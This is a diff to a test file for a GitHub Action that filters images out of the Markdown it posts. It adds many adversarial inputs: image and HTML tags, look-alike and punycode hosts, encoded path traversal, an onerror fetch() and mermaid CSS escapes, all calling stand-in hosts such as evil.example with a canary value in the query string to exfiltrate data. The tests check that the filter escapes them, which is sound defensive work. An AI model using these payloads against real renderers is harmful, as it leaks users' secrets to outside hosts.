@@ -8,6 +8,8 @@ import { neutraliseImages } from '../../integrations/github-action/src/images.js
 import { imagePolicy, parseImagePrefixes } from '../../integrations/github-action/src/image-policy.js';
 import { decodeCharacterReferences, loadedUrls, srcsetUrls } from '../../integrations/github-action/src/html-urls.js';
 import { renderedLoads } from '../helpers/rendered-images.js';
+import { publishable } from '../../integrations/github-action/src/publish.js';
+import { redactor } from '../../integrations/github-action/src/redact.js';
 
 const allows = imagePolicy({ serverUrl: 'https://github.com', repository: 'octo/demo', extra: ['https://img.shields.io/badge/'] });
 const ATTACHMENT = 'https://github.com/user-attachments/assets/0f1e2d3c-aaaa-bbbb-cccc-000000000001';
@@ -67,6 +69,29 @@ const ADVERSARIAL: Record<string, string> = {
   'image in a table cell with an escaped pipe': `| a |\n|---|\n| ![x](https://attacker.example/a\\|b?d=CANARY) |`,
   'definition inside a block quote, image outside': `> [r]: ${ATTACK}\n\n![x][r]`,
   'a data: URL': `![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='https://evil.example/'/%3E%3C/svg%3E)`,
+  // Red-team round: each judged after the browser's URL parsing, or escaped by the parser-independent pass.
+  'protocol-relative Markdown image': '![x](//evil.example/x.png?d=CANARY)',
+  'scheme and host in capitals': '![x](HTTPS://EVIL.EXAMPLE/x.png?d=CANARY)',
+  'look-alike host ending in the allowed one': '![x](https://user-images.githubusercontent.com.evil.example/x.png?d=CANARY)',
+  'punycode look-alike of githubusercontent.com': '![x](https://user-images.xn--githubusercntent-evil.com/x.png?d=CANARY)',
+  'Cyrillic look-alike of githubusercontent.com': '![x](https://user-images.githubusercоntent.com/x.png?d=CANARY)',
+  'percent-encoded dot in the host': '![x](https://evil%2Eexample/x.png?d=CANARY)',
+  'percent-encoded slashes climbing out of the repository': '![x](https://github.com/octo/demo/..%2F..%2Fevil/x.png?d=CANARY)',
+  'a newline inside the alt': `![\nx](${ATTACK})`,
+  'an image inside <details>': `<details><summary>s</summary>\n\n![x](${ATTACK})\n\n</details>`,
+  'html img inside a link': `<a href="https://docs.example/"><img src="${ATTACK}"></a>`,
+  'html img with spaces around =': `<img src = "${ATTACK}">`,
+  'audio src': `<audio src="${ATTACK}"></audio>`,
+  'object data': `<object data="${ATTACK}"></object>`,
+  'embed src': `<embed src="${ATTACK}">`,
+  'table background': `<table background="${ATTACK}"><tr><td>x</td></tr></table>`,
+  'body background': `<body background="${ATTACK}">`,
+  'svg image with xlink:href': `<svg><image xlink:href="${ATTACK}"/></svg>`,
+  'html img in a list item': `- <img src="${ATTACK}">`,
+  'html img in a footnote': `x[^a]\n\n[^a]: <img src="${ATTACK}">`,
+  'html img in a table cell': `| a |\n|---|\n| <img src="${ATTACK}"> |`,
+  'a definition given twice, the first off the list': `![x][r]\n\n[r]: ${ATTACK}\n[r]: ${ATTACHMENT}`,
+  'a reference image inside a link': `[![a][r]](https://docs.example/)\n\n[r]: ${ATTACK}`,
 };
 
 describe('the GitHub Action: images in what it posts', () => {
@@ -101,6 +126,45 @@ describe('the GitHub Action: images in what it posts', () => {
       expect(out).toContain('attacker.example');
     });
   }
+
+  it('escapes tags that load through what this reader cannot judge: srcdoc, event handlers', () => {
+    // (GitHub's tag filter also drops <iframe>; the filter does not count on it.)
+    for (const markdown of [`<iframe src="${ATTACK}"></iframe>`, `<iframe src="${ATTACHMENT}" srcdoc="&lt;img src='${ATTACK}'&gt;"></iframe>`, `<img src="${ATTACHMENT}" onerror="fetch('${ATTACK}')">`]) {
+      const out = neutraliseImages(markdown, allows);
+      expect(out.startsWith('&lt;')).toBe(true);
+      expect(renderedLoads(out)).toEqual([]);
+    }
+  });
+
+  it('never vouches for an allowed prefix whose path a server could decode out of it (%2F, %5C, %2E, ..;)', () => {
+    for (const url of ['https://img.shields.io/badge/..%2Fendpoint?url=https://evil.example/', 'https://img.shields.io/badge/..%5cendpoint', 'https://img.shields.io/badge/..;/endpoint', 'https://github.com/octo/demo/%2E%2E%2Fx']) {
+      expect(allows(url)).toBe(false);
+    }
+    expect(allows('https://img.shields.io/badge/tests-passing-green')).toBe(true);
+    // A listed prefix is matched with its case (another host's paths may tell case apart); GitHub's ignore it.
+    expect(allows('https://img.shields.io/BADGE/x')).toBe(false);
+    expect(allows('https://github.com/OCTO/Demo/raw/main/a.png')).toBe(true);
+  });
+
+  it('fails closed in bounded time on answers built to make the reader slow: every < and ![ escaped', () => {
+    for (const markdown of ['<a x '.repeat(20_000), '<img alt="'.repeat(20_000), '<img\n'.repeat(20_000), `${'x'.repeat(100_001)} ![x](${ATTACK})`]) {
+      const out = neutraliseImages(markdown, allows);
+      expect(out).not.toMatch(/<[A-Za-z]|(?<!\\)!\[/);
+    }
+    // Deep nesting still parses (bounded by the size limit) and neutralises the image.
+    const deep = neutraliseImages(`${'>'.repeat(5_000)} ![x](${ATTACK})`, allows);
+    expect(offList(deep)).toEqual([]);
+  });
+
+  it('redacts a secret that showing a neutralised image URL would decode (character references, escapes)', () => {
+    const redact = redactor(['SECRET-CANARY-42']);
+    for (const markdown of ['![x](https://evil.example/?d=SECRET-&#67;ANARY-42)', '![x](https://evil.example/?d=SECRET\\-CANARY-42)']) {
+      const out = publishable(markdown, redact, allows);
+      expect(out).not.toContain('SECRET-CANARY-42');
+      expect(out).toContain('***');
+      expect(offList(out)).toEqual([]);
+    }
+  });
 
   it('does not render a reference image when a label like its own (another case folding) names an off-list URL', () => {
     // micromark picks the allowed definition; a renderer folding the fullwidth Ｒ to r would pick the other.
@@ -169,6 +233,10 @@ describe('the GitHub Action: images in what it posts', () => {
   it('turns a diagram block that mentions a URL or an image into plain code; other diagrams render', () => {
     const diagram = '```mermaid\nflowchart LR\n  A@{ img: "https://attacker.example/?d=CANARY" }\n```';
     expect(neutraliseImages(diagram, allows)).toBe('```text\nflowchart LR\n  A@{ img: "https://attacker.example/?d=CANARY" }\n```');
+    // Escapes and entities that spell `//` or `url(` without writing them, and init directives that set CSS.
+    for (const body of ['style A background:u\\72l(https:\\2f\\2f evil.example)', 'A["<b>https:&#47;&#47;evil.example</b>"]', '%%{init: {"themeCSS": ".x{}"}}%%']) {
+      expect(neutraliseImages(`\`\`\`mermaid\nflowchart LR\n  ${body}\n\`\`\``, allows)).toMatch(/^```text\n/);
+    }
     const plain = '```mermaid\nflowchart LR\n  A --> B\n```';
     expect(neutraliseImages(plain, allows)).toBe(plain);
   });
